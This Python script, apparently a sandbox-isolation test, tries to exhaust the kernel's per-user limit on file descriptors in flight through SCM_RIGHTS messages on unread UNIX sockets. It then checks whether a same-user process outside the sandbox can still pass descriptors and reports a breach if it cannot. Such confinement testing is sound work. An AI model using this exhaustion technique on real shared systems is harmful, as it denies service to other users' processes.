"""Puts files into sockets that nobody reads, as many as its user may have on their way.

The kernel counts them by user: where the engine is the same one, it could pass none of its own on
to any sandbox. The runner asks a neighbour to start a program meanwhile. Unconfined the victim is
a process of the same id, nobody.

holds: root and user
unconfined: nobody
alone: small
as: user
"""
import array
import os
import resource
import socket
import sys
import time

from kit.attack import breach, held, unconfined

resource.setrlimit(resource.RLIMIT_NOFILE, (min(8192, resource.getrlimit(resource.RLIMIT_NOFILE)[1]),) * 2)
fds = [os.open("/dev/null", os.O_RDONLY) for _ in range(200)]
pairs, sent, why = [], 0, "enough"
try:
    for _ in range(200):
        pairs.append(socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM))
        pairs[-1][0].setblocking(False)
        for _ in range(2):
            pairs[-1][0].sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", fds))])
            sent += len(fds)
except OSError as e:
    why = e.strerror
if unconfined:
    pid = os.fork()
    if pid == 0:
        resource.setrlimit(resource.RLIMIT_NOFILE, (1024, 1024))
        try:
            a, b = socket.socketpair()
            a.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0]))])
            os._exit(0)
        except OSError:
            os._exit(7)
    status = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    breach("the victim can pass no file on") if status == 7 else held(f"{sent} files: the victim was not hurt")
time.sleep(1)
held(f"{sent} files on their way: {why}")
